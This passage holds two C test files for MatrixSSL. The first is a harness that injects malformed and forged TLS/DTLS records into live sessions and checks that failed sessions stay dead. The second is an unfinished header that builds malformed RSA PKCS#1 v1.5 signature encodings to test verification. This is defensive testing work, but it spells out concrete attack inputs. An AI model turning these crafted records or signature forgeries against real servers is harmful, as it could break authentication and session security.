    kills[nkill++] = (kill_t) { K_CORRUPT, 1 };   /* flip a bit in the first body byte */
    kills[nkill++] = (kill_t) { K_CORRUPT, 2 };   /* plaintext ClientHello / ServerHello: session id length 33 (never legal) */
    kills[nkill++] = (kill_t) { K_ILLEGAL_HS, 0 };  /* HelloRequest */
    kills[nkill++] = (kill_t) { K_ILLEGAL_HS, 20 }; /* Finished */
    kills[nkill++] = (kill_t) { K_ILLEGAL_HS, 99 }; /* unknown type */
    kills[nkill++] = (kill_t) { K_OVERSIZE, 0 };
    kills[nkill++] = (kill_t) { K_BADVER, 0 };     /* record version 7f.7f (no such protocol) */
    kills[nkill++] = (kill_t) { K_BADVER, 1 };     /* a real version of the same family, but not the negotiated one */
    kills[nkill++] = (kill_t) { K_BADVER, 2 };     /* a version of the other family (DTLS <-> TLS) */
    kills[nkill++] = (kill_t) { K_TRUNC_TAG, 0 };  /* warning-level close_notify in plaintext */
    kills[nkill++] = (kill_t) { K_SHORT_ALERT, 0 };
    kills[nkill++] = (kill_t) { K_PROT_SHORT, (21 << 8) | 1 };
    kills[nkill++] = (kill_t) { K_PROT_SHORT, (22 << 8) | 1 };
    kills[nkill++] = (kill_t) { K_PROT_SHORT, (22 << 8) | 2 };
    kills[nkill++] = (kill_t) { K_PROT_SHORT, (22 << 8) | 3 };
    kills[nkill++] = (kill_t) { K_JUNK_FLOOD, 17 };
    kills[nkill++] = (kill_t) { K_JUNK_FLOOD, 16 };
    kills[nkill++] = (kill_t) { K_JUNK_FLOOD, 117 };
    {
        static const int lv[] = { 1, 2, 0, 3 }, ds[] = { 10, 20, 40, 47, 50, 80, 109, 255, 90, 0 };
        int a, b;
        for (a = 0; a < 4; a++)
        {
            for (b = 0; b < 10; b++)
            {
                kills[nkill++] = (kill_t) { K_PROT_ALERT, (lv[a] << 8) | ds[b] };
            }
        }
    }
}

static int reach_state(gctx_t *g)
{
    const wcfg_t *c = &cfgs[g->ci];
    int n = nsteps[g->ci];
    if (world_init(&g->w, c) < 0)
    {
        return -2;
    }
    if (g->p <= n)
    {
        return world_run_steps(&g->w, g->p) == g->p ? 0 : -3;
    }
    if (world_run_steps(&g->w, 1000) != n)
    {
        return -4;
    }
    world_app_send(&g->w, 0, (const unsigned char *) "c-data-1", 8);
    world_app_send(&g->w, 1, (const unsigned char *) "s-data-1", 8);
    world_pump(&g->w, 50);
    return 0;
}

static int hdr_len(const wcfg_t *c) { return ver_is_dtls(c->ver) ? 13 : 5; }

/* take the next honest unit travelling to the victim; if none and the peer can send app data, make one */
static int take_honest(gctx_t *g, unsigned char *out, int max)
{
    int v = g->victim, peer = 1 - v;
    rec_t r;
    if (g->w.wire[peer].n == 0 && world_is_complete(&g->w, peer))
    {
        world_app_send(&g->w, peer, (const unsigned char *) "first-secret", 12);
    }
    r = world_wire_pop(&g->w, peer);
    if (!r.p)
    {
        return 0;
    }
    if (r.len > max)
    {
        free(r.p);
        return 0;
    }
    memcpy(out, r.p, (size_t) r.len);
    free(r.p);
    return r.len;
}

static int apply_kill(gctx_t *g, const kill_t *k)
{
    const wcfg_t *c = &cfgs[g->ci];
    int v = g->victim, peer = 1 - v, dtls = ver_is_dtls(c->ver);
    int maj, min, len;
    static unsigned char rec[20000];
    unsigned char body[64];
    wire_version_bytes(c->ver, &maj, &min);
    g->orig_len = 0;
    world_tracef(&g->w, "KILL v%d %s %d\n", v, kname[k->kind], k->a);
    switch (k->kind)
    {
    case K_PLAIN_ALERT:
        body[0] = 2; body[1] = (unsigned char) k->a;
        len = mk_record(rec, dtls, 21, maj, min, 0, 40, body, 2);
        return world_feed(&g->w, v, rec, len);
    case K_TRUNC_TAG:
        body[0] = 1; body[1] = 0;
        len = mk_record(rec, dtls, 21, maj, min, 0, 41, body, 2);
        return world_feed(&g->w, v, rec, len);
    case K_SHORT_ALERT:
        body[0] = 2;
        len = mk_record(rec, dtls, 21, maj, min, 0, 44, body, 1);
        g->prot_alert_sent = 1;
        return world_feed(&g->w, v, rec, len);
    case K_JUNK_FLOOD:
    {
        /* only meaningful for a TLS 1.3 server in its handshake (elsewhere the first such record kills: corrupt-record) */
        ssl_t *ssl = g->w.s[v].ssl;
        int i, n, rcx = 1;
        if (v != 1 || dtls || !ssl || !NGTD_VER(ssl, v_tls_1_3_any) || world_is_complete(&g->w, v))
        {
            return 1;
        }
        n = 16384 / (k->a > 17 ? k->a - 17 : 1) + 3;
        memset(rec + 5, 0x5d, (size_t) k->a);
        rec[0] = 23; rec[1] = 3; rec[2] = 3; rec[3] = (unsigned char) (k->a >> 8); rec[4] = (unsigned char) k->a;
        for (i = 0; i < n && g->w.s[v].err_rc >= 0 && ssl->err == SSL_ALERT_NONE && !(ssl->flags & SSL_FLAGS_ERROR); i++)
        {
            rcx = world_feed(&g->w, v, rec, 5 + k->a);
            if ((i & 63) == 63) g->w.trace.len = g->w.trace.len > 8192 ? 8192 : g->w.trace.len;
        }
        g->prot_alert_sent = 1;
        return rcx;
    }
    case K_PROT_SHORT:
    case K_PROT_ALERT:
    {
        unsigned char sec[64];
        tk13_keys_t fk;
        ssl_t *ssl = g->w.s[v].ssl;
        int sl, hl, i, done = world_is_complete(&g->w, v);
        uint16_t suite;
        if (!ssl || !ssl->cipher || !NGTD_VER(ssl, v_tls_1_3_any))
        {
            return 1;
        }
        suite = (uint16_t) ssl->cipher->ident;
        if (suite != TLS_AES_128_GCM_SHA256 && suite != TLS_AES_256_GCM_SHA384 && suite != TLS_CHACHA20_POLY1305_SHA256)
        {
            return 1;
        }
        hl = suite == TLS_AES_256_GCM_SHA384 ? 48 : 32;
        sl = tk_keylog_find(done ? (v == 0 ? "s ap traffic" : "c ap traffic") : (v == 0 ? "s hs traffic" : "c hs traffic"), sec);
        if (sl != hl || tk13_keys_from_secret(&fk, suite, sec, hl) < 0)
        {
            return 1;
        }
        fk.seq = 0;
        for (i = 0; i < 8; i++) fk.seq = (fk.seq << 8) | ssl->sec.remSeq[i];
        body[0] = (unsigned char) (k->a >> 8); body[1] = (unsigned char) k->a;
        if (k->kind == K_PROT_SHORT)
        {
            body[0] = (k->a >> 8) == 21 ? 2 : 4; body[1] = 0; body[2] = 0;
            len = tk13_seal(&fk, k->a >> 8, body, k->a & 0xff, rec);
        }
        else
        len = tk13_seal(&fk, 21, body, 2, rec);
        if (len <= 0)
        {
            return 1;
        }
        g->prot_alert_sent = 1;
        return world_feed(&g->w, v, rec, len);
    }
    case K_PEER_FATAL:
    {
        /* make the honest peer emit a genuine (possibly protected) fatal alert */
        unsigned char junk[48];
        rec_t r;
        int rc = -1;
        memset(junk, 0x5A, sizeof(junk));
        world_wire_clear(&g->w, peer);
        len = mk_record(rec, dtls, 22, maj, min, 1, 50, junk, 48);
        if (dtls)
        {
            return 1; /* DTLS ignores garbage; no alert is produced */
        }
        world_feed(&g->w, peer, rec, len);
        r = world_wire_pop(&g->w, peer);
        if (!r.p)
        {
            return 1;
        }
        rc = world_feed(&g->w, v, r.p, r.len);
        free(r.p);
        return rc;
    }
    case K_PEER_CLOSE:
    {
        rec_t r;
        int rc;
        world_wire_clear(&g->w, peer);
        if (world_close(&g->w, peer) < 0)
        {
            return 1;
        }
        r = world_wire_pop(&g->w, peer);
        if (!r.p)
        {
            return 1;
        }
        rc = world_feed(&g->w, v, r.p, r.len);
        free(r.p);
        return rc;
    }
    case K_CORRUPT:
    case K_BADVER:
        len = take_honest(g, rec, sizeof(rec));
        if (len <= hdr_len(c))
        {
            return 1;
        }
        memcpy(g->orig, rec, (size_t) len);
        g->orig_len = len;
        if (k->kind == K_BADVER)
        {
            if (k->a == 0)
            {
                rec[1] = 0x7f; rec[2] = 0x7f;
            }
            else if (k->a == 1)
            {
                rec[2] = dtls ? (rec[2] == 0xfd ? 0xff : 0xfd) : (rec[2] == 3 ? 2 : 3);
            }
            else
            {
                rec[1] = dtls ? 3 : 0xfe; rec[2] = dtls ? 3 : 0xfd;
            }
        }
        else if (k->a == 2)
        {
            int h = hdr_len(c), so = h + (dtls ? 12 : 4) + 2 + 32;
            if (rec[0] != 22 || (rec[h] != 1 && rec[h] != 2) || len <= so || (dtls && (rec[3] || rec[4])))
            {
                g->orig_len = 0;
                return 1;   /* not a plaintext hello */
            }
            rec[so] = 33;
            g->malformed_hello = 1;
        }
        else if (k->a == 0)
        {
            rec[len - 1] ^= 0x01;
        }
        else
        {
            rec[hdr_len(c)] ^= 0x80;
        }
        return world_feed(&g->w, v, rec, len);
    case K_ILLEGAL_HS:
    {
        unsigned char hs[32];
        int hl = 0;
        memset(hs, 0, sizeof(hs));
        hs[hl++] = (unsigned char) k->a;
        if (dtls)
        {
            hs[hl++] = 0; hs[hl++] = 0; hs[hl++] = 12; /* length */
            hs[hl++] = 0; hs[hl++] = 9;                /* msg seq */
            hs[hl++] = 0; hs[hl++] = 0; hs[hl++] = 0;  /* frag off */
            hs[hl++] = 0; hs[hl++] = 0; hs[hl++] = 12; /* frag len */
            hl += 12;
        }
        else
        {
            hs[hl++] = 0; hs[hl++] = 0; hs[hl++] = 12;
            hl += 12;
        }
        len = mk_record(rec, dtls, 22, maj, min, 0, 42, hs, hl);
        return world_feed(&g->w, v, rec, len);
    }
    case K_OVERSIZE:
    {
        static unsigned char big[18600];
        memset(big, 0x41, sizeof(big));
        len = mk_record(rec, dtls, 23, maj, min, 1, 43, big, 18500);
        return world_feed(&g->w, v, rec, len);
    }
    }
    return 1;
}

static int is_dead(gctx_t *g)
{
    side_t *s = &g->w.s[g->victim];
    if (s->err_rc < 0)
    {
        return 1;
    }
    if (s->got_alert_lvl == SSL_ALERT_LEVEL_FATAL)
    {
        return 1;
    }
    if (s->got_alert_lvl > 0 && s->got_alert_desc == SSL_ALERT_CLOSE_NOTIFY)
    {
        return 1;
    }
    if (s->ssl->err != SSL_ALERT_NONE)
    {
        return 1; /* the session encoded a fatal alert of its own */
    }
    if (s->ssl->flags & SSL_FLAGS_ERROR)
    {
        return 1; /* the library's own "this session is poisoned" mark (white box): from here on the monitor must see nothing */
    }
    return 0;
}

typedef struct { int ndeliv, complete, probe_ok, emitted_nonalert, rc_complete; } mon_t;

static void apply_cont(gctx_t *g, int c, mon_t *m)
{
    const wcfg_t *cf = &cfgs[g->ci];
    int v = g->victim, peer = 1 - v, dtls = ver_is_dtls(cf->ver);
    int maj, min, len, rc;
    unsigned char rec[600], body[64];
    wire_version_bytes(cf->ver, &maj, &min);
    world_tracef(&g->w, "CONT %s\n", cname[c]);
    switch (c)
    {
    case C_HONEST_REST:
        world_pump(&g->w, 60);
        break;
    case C_ORIGINAL:
        if (g->orig_len > 0)
        {
            rc = world_feed(&g->w, v, g->orig, g->orig_len);
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                m->rc_complete = 1;
            }
            world_pump(&g->w, 60);
        }
        break;
    case C_FRESH_APP:
        if (world_is_complete(&g->w, peer))
        {
            world_wire_clear(&g->w, peer);
            if (world_app_send(&g->w, peer, (const unsigned char *) "second-secret", 13) > 0)
            {
                world_deliver(&g->w, peer);
            }
        }
        break;
    case C_GARBAGE:
        memset(body, 0xC3, sizeof(body));
        len = mk_record(rec, dtls, 23, maj, min, 1, 60, body, 48);
        world_feed(&g->w, v, rec, len);
        break;
    case C_PLAIN23:
        len = mk_record(rec, dtls, 23, maj, min, 0, 61, (const unsigned char *) "EVIL!", 5);
        world_feed(&g->w, v, rec, len);
        break;
    case C_TIMEOUT:
        /* DTLS: the application's retransmission timer fires on the dead session (matrixDtlsGetOutdata with an empty outbuf
           = resend the last flight): a dead session never again encrypts handshake messages */
        if (dtls)
        {
            world_dtls_timeout(&g->w, v);
        }
        break;
    case C_PROBE:
        if (world_encode_probe(&g->w, v) > 0)
        {
            m->probe_ok = 1;
        }
        break;
    case C_CLOSE_PROBE:
        world_close(&g->w, v);
        if (world_encode_probe(&g->w, v) > 0)
        {
            m->probe_ok = 1;
        }
        break;
    }
}

/* count non-alert records the victim emitted (visible type: TLS/DTLS <= 1.2 only) */
static int count_nonalert(gctx_t *g)
{
    const wcfg_t *c = &cfgs[g->ci];
    wire_t *q = &g->w.wire[g->victim];
    int i, n = 0;
    if (c->ver == V_TLS13 || g->w.s[g->victim].ssl == NULL)
    {
        return 0;
    }
    if (NGTD_VER(g->w.s[g->victim].ssl, v_tls_1_3_any))
    {
        return 0;
    }
    for (i = 0; i < q->n; i++)
    {
        rec_t *r = &q->r[(q->head + i) % W_MAXREC];
        if (r->len > 0 && r->p[0] != SSL_RECORD_TYPE_ALERT)
        {
            n++;
        }
    }
    return n;
}

static void run_case(void *ctx, mx_result_t *r)
{
    gctx_t *g = ctx;
    const wcfg_t *c = &cfgs[g->ci];
    const kill_t *k = &kills[g->ki];
    int v = g->victim, hs, dead, was_read_secure;
    char cd[96];
    mon_t m;
    side_t *s = &g->w.s[v];

    cfg_desc(c, cd, sizeof(cd));
    hs = s->ssl->hsState;
    was_read_secure = (s->ssl->flags & SSL_FLAGS_READ_SECURE) != 0;
    apply_kill(g, k);
    dead = is_dead(g);
    if (!dead)
    {
        /* "no error path reports success": on TLS <= 1.2 (record header fields are checked, nothing may be skipped) these
           events are errors in every state once the versions are negotiated; DTLS may discard silently and TLS 1.3 ignores
           the legacy record version.  The other events (a flipped bit in a plaintext handshake message, a HelloRequest)
           need not be errors. */
        int negotiated = hs != SSL_HS_CLIENT_HELLO && hs != SSL_HS_SERVER_HELLO;   /* state before the event */
        int must = !ver_is_dtls(c->ver) && c->ver != V_TLS13 && c->cver != V_MULTI && negotiated &&
            (k->kind == K_BADVER || k->kind == K_OVERSIZE || k->kind == K_PLAIN_ALERT || (k->kind == K_ILLEGAL_HS && k->a == 99));
        /* a PROTECTED record that fails to verify (bit flipped in its MAC / tag, or in its first body byte) is an error on TLS
           in every version - except for the records a TLS 1.3 server skips while it rejects early data the client OFFERED */
        if (k->kind == K_CORRUPT && k->a == 2 && g->malformed_hello && !ver_is_dtls(c->ver))
        {
            must = 1;   /* a hello that cannot be parsed is a decode error in every TLS version and state */
        }
        else if (k->kind == K_CORRUPT && k->a != 2 && g->orig_len > 0 && !ver_is_dtls(c->ver))
        {
            int tls13 = c->ver == V_TLS13 || NGTD_VER(s->ssl, v_tls_1_3_any);
            int prot = tls13 ? g->orig[0] == 23 : was_read_secure;
            int early_offered = (c->kx == KX_13_PSK || c->resume13) && c->early_data;
            if (prot && !(tls13 && v == 1 && early_offered))
            {
                must = 1;
            }
        }
        if (k->kind == K_PROT_ALERT && g->prot_alert_sent)
        {
            /* RFC 8446 6: every alert except close_notify and user_canceled is an error alert whatever its level byte
               says, unknown descriptions included; close_notify closes the read side (is_dead sees it as a closure) */
            int desc = k->a & 0xff;
            must = desc != 90 && desc != 0;
        }
        if ((k->kind == K_PROT_SHORT || k->kind == K_JUNK_FLOOD) && g->prot_alert_sent)
        {
            must = 1;   /* a record that cannot hold a message is a decode error; no allowance covers that many records */
        }
        if (k->kind == K_SHORT_ALERT && g->prot_alert_sent && !ver_is_dtls(c->ver) && negotiated)
        {
            must = 1;
        }
        if (must && (k->kind != K_BADVER || g->orig_len > 0))
        {
            r->violation = 1;
            r->nontrivial = 1;
            snprintf(r->key, sizeof(r->key), "%s|v=%c|%s|error-event-not-fatal", cd, "cs"[v], kname[k->kind]);
            snprintf(r->what, sizeof(r->what), "%s %s (hsState %d): %s (variant %d) was answered with success: no error code, no alert, session still alive (last rc %d) [%s]",
                cd, v ? "server" : "client", hs, kname[k->kind], k->a, s->last_rc, r->desc);
            snprintf(r->outcome, sizeof(r->outcome), "%s:NOT-KILLED", kname[k->kind]);
            r->transitions = g->w.actions;
            r->trace_hash = world_trace_hash(&g->w);
            return;
        }
        snprintf(r->outcome, sizeof(r->outcome), "%s:not-killed", kname[k->kind]);
        r->nontrivial = 0;
        r->transitions = g->w.actions;
        r->trace_hash = world_trace_hash(&g->w);
        return;
    }
    r->nontrivial = 1;
    /* arm the monitor: drop what was emitted up to and including the kill step */
    world_wire_clear(&g->w, v);
    memset(&m, 0, sizeof(m));
    m.ndeliv = s->n_deliveries;
    m.complete = world_is_complete(&g->w, v);
    apply_cont(g, g->c1, &m);
    if (g->c2 >= 0)
    {
        apply_cont(g, g->c2, &m);
    }
    m.emitted_nonalert = count_nonalert(g);
    snprintf(r->outcome, sizeof(r->outcome), "%s:dead:%s:rc%d", kname[k->kind], cname[g->c1],
        s->last_rc < -99 ? -99 : s->last_rc);
    {
        const char *sym = NULL;
        if (s->n_deliveries > m.ndeliv)
        {
            sym = "app-data-delivered-after-death";
        }
        else if (m.probe_ok)
        {
            sym = "app-data-encrypted-after-death";
        }
        else if (!m.complete && (world_is_complete(&g->w, v) || m.rc_complete))
        {
            sym = "handshake-completed-after-death";
        }
        else if (m.emitted_nonalert > 0)
        {
            sym = "non-alert-record-emitted-after-death";
        }
        if (sym)
        {
            r->violation = 1;
            snprintf(r->key, sizeof(r->key), "%s|v=%c|%s|%s|%s", cd, "cs"[v], kname[k->kind], cname[g->c1], sym);
            snprintf(r->what, sizeof(r->what), "%s %s (hsState %d): after %s, continuation %s%s%s => %s [%s]", cd, v ? "server" : "client",
                hs, kname[k->kind], cname[g->c1], g->c2 >= 0 ? "+" : "", g->c2 >= 0 ? cname[g->c2] : "", sym, r->desc);
        }
    }
    r->transitions = g->w.actions;
    r->trace_hash = world_trace_hash(&g->w);
}

static void run_group(long gi, void *unused)
{
    static gctx_t g;
    int v, ki, c1, c2;
    (void) unused;
    memset(&g, 0, sizeof(g));
    g.ci = groups[gi].ci;
    g.p = groups[gi].p;
    if (reach_state(&g) != 0)
    {
        mx_result_t r;
        memset(&r, 0, sizeof(r));
        r.violation = 2;
        snprintf(r.key, sizeof(r.key), "cannot-reach-state|cfg=%d|p=%d", g.ci, g.p);
        snprintf(r.what, sizeof(r.what), "harness could not reach state p=%d of cfg %d", g.p, g.ci);
        snprintf(r.desc, sizeof(r.desc), "cfg=%d;p=%d", g.ci, g.p);
        mx_record(&r);
        return;
    }
    for (v = 0; v < 2; v++)
    {
        for (ki = 0; ki < nkill; ki++)
        {
            if (!thorough && kills[ki].kind == K_PLAIN_ALERT && g.p > 2 && g.p < nsteps[g.ci] && (ki % 4) != (g.p % 4))
            {
                continue; /* quick: a rotating quarter of the alert descriptions in mid-handshake states */
            }
            for (c1 = 0; c1 < C_NCONT; c1++)
            {
                for (c2 = -1; c2 < (thorough ? C_NCONT : 0); c2++)
                {
                    char desc[220], cd[96];
                    if (mx_deadline_hit())
                    {
                        goto out;
                    }
                    if (c1 == C_ORIGINAL && kills[ki].kind != K_CORRUPT && kills[ki].kind != K_BADVER)
                    {
                        continue;
                    }
                    if (c2 == C_ORIGINAL && kills[ki].kind != K_CORRUPT && kills[ki].kind != K_BADVER)
                    {
                        continue;
                    }
                    g.victim = v; g.ki = ki; g.c1 = c1; g.c2 = c2;
                    cfg_desc(&cfgs[g.ci], cd, sizeof(cd));
                    snprintf(desc, sizeof(desc), "cfg=%d;p=%d;v=%d;k=%d;c1=%d;c2=%d (%s state=%d/%d victim=%s kill=%s/%d cont=%s%s%s)",
                        g.ci, g.p, v, ki, c1, c2, cd, g.p, nsteps[g.ci], v ? "server" : "client", kname[kills[ki].kind], kills[ki].a,
                        cname[c1], c2 >= 0 ? "+" : "", c2 >= 0 ? cname[c2] : "");
                    mx_fork_case(desc, run_case, &g);
                }
            }
        }
    }
out:
    world_free(&g.w);
}

int main(int argc, char **argv)
{
    mx_cfg_t cfg;
    const char *replay;
    int i, p;

    memset(&cfg, 0, sizeof(cfg));
    cfg.property = "C15";
    cfg.sanitizer_is_oracle = 1; /* a crashing case child is a violation (memory fault in the library) */
    cfg.level = "model_checking";
    cfg.engine = "fork-dfs over live sessions with a temporal 'dead' monitor";
    cfg.rule = "case = (configuration, handshake prefix or connected state, victim role, killing event, continuation[s]); distinct by construction; "
               "non-trivial = the killing event actually put the victim into the dead condition (fatal alert sent/received, error, close_notify received) so the monitor was armed";
    cfg.assumptions[0] = "entropy and clock pinned; fork() snapshot faithful";
    cfg.assumptions[1] = "dead := API returned <0, or a fatal alert / close_notify was received, or the session encoded a fatal alert (ssl->err set)";
    cfg.assumptions[2] = "record type of emitted records is only observable for (D)TLS <= 1.2";
    replay = mx_parse_args(argc, argv, &cfg);
    thorough = !strcmp(cfg.tier, "thorough");
    cfg.bound = thorough ? "1 killing event + 2 continuations, all states" : "1 killing event + 1 continuation, all states";
    build_kills();
    ncfg = std_configs(cfgs, MAXCFG, thorough);

    if (replay)
    {
        static gctx_t g;
        mx_result_t r;
        int ci, pp, v, ki, c1, c2;
        if (sscanf(replay, "cfg=%d;p=%d;v=%d;k=%d;c1=%d;c2=%d", &ci, &pp, &v, &ki, &c1, &c2) != 6 || ci >= ncfg || ki >= nkill)
        {
            fprintf(stderr, "bad replay descriptor: %s\n", replay);
            return 2;
        }
        nsteps[ci] = world_count_steps(&cfgs[ci]);
        memset(&g, 0, sizeof(g));
        g.ci = ci; g.p = pp; g.victim = v; g.ki = ki; g.c1 = c1; g.c2 = c2;
        if (reach_state(&g) != 0)
        {
            fprintf(stderr, "cannot reach state\n");
            return 2;
        }
        memset(&r, 0, sizeof(r));
        snprintf(r.desc, sizeof(r.desc), "%s", replay);
        run_case(&g, &r);
        fprintf(stderr, "%s", (char *) g.w.trace.p);
        mx_replay_print(&r);
        return 0;
    }

    mx_init(&cfg);
    for (i = 0; i < ncfg; i++)
    {
        nsteps[i] = world_count_steps(&cfgs[i]);
        if (nsteps[i] < 0)
        {
            printf("INTERNAL property=C15 key=honest-handshake-failed what=cfg %d\n", i);
            return 2;
        }
        for (p = 0; p <= nsteps[i] + 1; p++)
        {
            groups[ngroups].ci = i;
            groups[ngroups].p = p;
            ngroups++;
        }
    }
    mx_parallel(ngroups, run_group, NULL);
    return mx_finish(NULL);
}
