/* c11_rsa.h - RSA PKCS#1 v1.5 and RSASSA-PSS verification cases of drv_c11.c */
#ifndef C11_RSA_H
#define C11_RSA_H
#include "c11_common.h"

typedef struct {
    unsigned char msg[128];
    int msglen;
    unsigned char dig[64];
    int dlen;
    unsigned char emc[512];      /* canonical EM for dig (PKCS#1 v1.5) */
    unsigned char em[1040];      /* EM that was signed (if the variant signs one) */
    int have_em;
    unsigned char sig[1100];
    int siglen;
    int salt_sign, salt_expect;  /* PSS */
    const char *name;            /* stable variant name for keys */
    char human[120];
} rtest_t;

/* ------------------------------------------------------------ PKCS#1 v1.5 */
enum { N_VALID = 0, N_NO_NULL, N_BER_SEQ, N_BER_ALGSEQ, N_BER_OCT, N_BER_OID, N_BER_NULL, N_BER_SEQ_82, N_OID_OTHER,
       N_OTHER_HASH_VALID, N_TRAIL_AFTER, N_TRAIL_IN_SEQ, N_TRAIL_IN_OCT, N_DIG_TRUNC, N_DIG_EXT, N_DIG_SHORT_LIE,
       N_PARAMS_GARBAGE, N_PARAMS_OCT, N_BT00, N_BT02, N_BTFF, N_FIRST01, N_HASH_NOT_AT_END_PS8, N_PS7, N_PS1, N_PS0,
       N_GARBAGE_IN_PAD, N_GARBAGE_IN_PAD_ZERO, N_NO_SEP, N_SHIFT_LEFT, N_SHIFT_RIGHT, N_DIG_ZERO, N_DIG_OTHER_MSG,
       N_NO_NULL_TRAIL, N_NULL_TRUNC_DIG, N_NNAMED };
static const char *rsa15_named[N_NNAMED] = {
    "valid", "di-absent-null", "di-ber-long-seq", "di-ber-long-algseq", "di-ber-long-octet", "di-ber-long-oid", "di-ber-long-null",
    "di-ber-2byte-seq", "di-wrong-oid", "di-other-hash-valid", "di-trailing-after", "di-trailing-in-seq", "di-trailing-in-octet",
    "di-digest-truncated", "di-digest-extended", "di-digest-short-lie", "di-params-garbage", "di-params-octet", "bt-00", "bt-02",
    "bt-ff", "first-byte-01", "hash-not-at-end-ps8", "ps-7-ff", "ps-1-ff", "ps-0-ff", "garbage-in-padding", "garbage-in-padding-00",
    "no-separator", "shifted-left", "shifted-right", "digest-zero", "digest-other-msg", "di-absent-null-trailing2", "di-null-digest-minus2" };

enum { S_PLUS_N = 0, S_LEAD_ZERO_ADDED, S_LEAD_ZERO_REMOVED, S_EMPTY, S_ZEROS, S_ONE, S_NM1, S_N, S_DOUBLE, S_TRAIL_BYTE, S_OTHER_MSG, S_NSIG };
static const char *rsa_sig_named[S_NSIG] = { "sig-plus-n", "sig-leading-zero-added", "sig-leading-zero-removed", "sig-empty", "sig-zero",
                                             "sig-one", "sig-n-minus-1", "sig-n", "sig-doubled", "sig-trailing-byte", "sig-of-other-msg" };

static void nz_garbage(unsigned char *g, int n, long ctr)
{
    int j;
    fill_bytes(g, (size_t) n, "garbage", ctr);
    for (j = 0; j < n; j++)
    {
        if (g[j] == 0 || g[j] == 0xff)
        {
            g[j] = 0x5a;
        }
    }
}

/* free-form DigestInfo */
typedef struct {
    int lf_seq, lf_alg, lf_oid, lf_null, lf_oct;
    const unsigned char *oid; int oidlen;
    const unsigned char *params; int plen;   /* params TLV bytes (NULL,0 = absent) */
    const unsigned char *dig; int dlen;
    int oct_len_lie;                          /* value written in the OCTET STRING length field minus real length */
    int gwhere; const unsigned char *g; int glen; /* 1 after DigestInfo, 2 inside SEQUENCE, 3 inside OCTET STRING */
} di_t;

static int di_build(unsigned char *out, const di_t *d)
{
    unsigned char alg[96], body[320], oct[200];
    int al = 0, bl = 0, ol = 0, n;
    al += der_tlv(alg + al, 0x06, d->oid, d->oidlen, d->lf_oid);
    if (d->plen)
    {
        memcpy(alg + al, d->params, (size_t) d->plen);
        al += d->plen;
    }
    bl += der_tlv(body + bl, 0x30, alg, al, d->lf_alg);
    memcpy(oct, d->dig, (size_t) d->dlen);
    ol = d->dlen;
    if (d->gwhere == 3)
    {
        memcpy(oct + ol, d->g, (size_t) d->glen);
        ol += d->glen;
    }
    n = der_hdr(body + bl, 0x04, ol + d->oct_len_lie, d->lf_oct);
    memcpy(body + bl + n, oct, (size_t) ol);
    bl += n + ol;
    if (d->gwhere == 2)
    {
        memcpy(body + bl, d->g, (size_t) d->glen);
        bl += d->glen;
    }
    n = der_tlv(out, 0x30, body, bl, d->lf_seq);
    if (d->gwhere == 1)
    {
        memcpy(out + n, d->g, (size_t) d->glen);
        n += d->glen;
    }
    return n;
}

/* EM of a named PKCS#1 v1.5 variant; returns 0 or NA */
static int rsa15_named_em(rsakey_t *K, int h, int name, rtest_t *t)
{
    static const unsigned char nul[2] = { 5, 0 }, nul_lf[3] = { 5, 0x81, 0 };
    unsigned char T[400], g[600], dig2[64];
    unsigned char *em = t->em;
    int k = K->k, tl, isdi = h != H_RAW36, hl = HI[h].len, j;
    di_t d;

    memset(&d, 0, sizeof(d));
    d.oid = HI[h].oid; d.oidlen = HI[h].oidlen; d.params = nul; d.plen = 2; d.dig = t->dig; d.dlen = hl;
    nz_garbage(g, sizeof(g), name);
    tl = digestinfo(T, h, t->dig, hl, 0);

    switch (name)
    {
    case N_VALID:
        break;
    case N_NO_NULL:
        if (!isdi) return NA;
        d.plen = 0; tl = di_build(T, &d); break;
    case N_BER_SEQ:
        if (!isdi) return NA;
        d.lf_seq = 1; tl = di_build(T, &d); break;
    case N_BER_SEQ_82:
        if (!isdi) return NA;
        d.lf_seq = 2; tl = di_build(T, &d); break;
    case N_BER_ALGSEQ:
        if (!isdi) return NA;
        d.lf_alg = 1; tl = di_build(T, &d); break;
    case N_BER_OCT:
        if (!isdi) return NA;
        d.lf_oct = 1; tl = di_build(T, &d); break;
    case N_BER_OID:
        if (!isdi) return NA;
        d.lf_oid = 1; tl = di_build(T, &d); break;
    case N_BER_NULL:
        if (!isdi) return NA;
        d.params = nul_lf; d.plen = 3; tl = di_build(T, &d); break;
    case N_OID_OTHER:
    {
        /* the OID of another hash function in an otherwise correct DigestInfo */
        int h2 = h == H_SHA256 ? H_SHA384 : H_SHA256;
        if (!isdi) return NA;
        if (h == H_SHA1)
        {
            static const unsigned char md5oid[] = { 0x2b, 0x0e, 0x03, 0x02, 0x1d };
            d.oid = md5oid; d.oidlen = 5;
        }
        else
        {
            d.oid = HI[h2].oid; d.oidlen = HI[h2].oidlen;
        }
        tl = di_build(T, &d);
        break;
    }
    case N_OTHER_HASH_VALID:
    {
        /* a fully valid signature over the same message under another hash function */
        int h2 = h == H_SHA256 ? H_SHA384 : H_SHA256;
        if (!isdi || !HI[h2].enabled) return NA;
        ref_hash(h2, t->msg, (size_t) t->msglen, dig2);
        tl = digestinfo(T, h2, dig2, HI[h2].len, 0);
        break;
    }
    case N_TRAIL_AFTER:
        d.gwhere = 1; d.g = g; d.glen = 4;
        if (isdi) tl = di_build(T, &d); else { memcpy(T + tl, g, 4); tl += 4; }
        break;
    case N_TRAIL_IN_SEQ:
        if (!isdi) return NA;
        d.gwhere = 2; d.g = g; d.glen = 4; tl = di_build(T, &d); break;
    case N_TRAIL_IN_OCT:
        if (!isdi) return NA;
        d.gwhere = 3; d.g = g; d.glen = 4; tl = di_build(T, &d); break;
    case N_DIG_TRUNC:
        d.dlen = hl - 1;
        if (isdi) tl = di_build(T, &d); else tl = hl - 1;
        break;
    case N_DIG_EXT:
        memcpy(dig2, t->dig, (size_t) hl);
        if (hl >= 64) return NA;
        dig2[hl] = 0;
        d.dig = dig2; d.dlen = hl + 1;
        if (isdi) tl = di_build(T, &d); else { T[tl++] = 0; }
        break;
    case N_DIG_SHORT_LIE:
        if (!isdi) return NA;
        d.dlen = hl - 1; d.oct_len_lie = 1; tl = di_build(T, &d);
        /* fix the outer lengths so that they still claim the full size */
        T[1] = (unsigned char) (T[1] + 1);
        break;
    case N_PARAMS_GARBAGE:
    {
        static unsigned char pg[8] = { 5, 4, 0xde, 0xad, 0xbe, 0xef };
        if (!isdi) return NA;
        d.params = pg; d.plen = 6; tl = di_build(T, &d); break;
    }
    case N_PARAMS_OCT:
    {
